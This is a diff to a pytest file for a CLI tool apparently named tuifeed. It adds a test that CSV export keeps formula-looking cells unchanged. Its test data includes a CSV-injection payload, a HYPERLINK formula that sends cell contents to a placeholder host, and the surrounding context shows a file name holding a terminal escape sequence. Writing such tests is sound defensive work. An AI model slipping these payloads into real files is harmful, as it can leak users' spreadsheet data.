@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import shutil
@@ -12,6 +14,7 @@ from pathlib import Path
 
 import pytest
 
+from tuifeed.models import Clip, EventKind
 from tuifeed.store import Store
 
 ENV = {"COLUMNS": "80", "PATH": "/usr/bin:/bin", "LANG": "C"}
@@ -84,3 +87,19 @@ def test_search_json_is_valid_utf8_for_a_name_that_is_not(odd_name: Path, errors
     (clip,) = json.loads(result.stdout.decode("utf-8"))
     assert clip["location"].endswith("/caf\ufffd \x1b[2J.mp4")
     clip["location"].encode("utf-8")
+
+
+def test_csv_keeps_formula_looking_cells_exactly(tmp_path: Path) -> None:
+    """CSV injection, decided: cells are the stored text (README says so and how to open them safely), never altered."""
+    db = tmp_path / "formulas.db"
+    store = Store(db)
+    title, creator = '=HYPERLINK("http://example.invalid/?"&A1,"x")', "@SUM(1+1)"
+    store.upsert_clips([Clip(id="f", location="/v/+f.mp4", title=title, creator=creator, tags=("-1+2",))])
+    store.record_like("f", True, "2026-03-11T20:30:00.000+00:00")
+    store.record_event(EventKind.FOLLOW, creator, True, "2026-03-11T20:31:00.000+00:00")
+    store.close()
+    out = tmp_path / "history.csv"
+    assert tuifeed("export", "--format", "csv", "--out", str(out), db=db).returncode == 0
+    like, follow = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
+    assert (like["clip_title"], like["clip_creator"], like["clip_location"]) == (title, creator, "/v/+f.mp4")
+    assert json.loads(like["clip_tags"]) == ["-1+2"] and follow["creator"] == creator
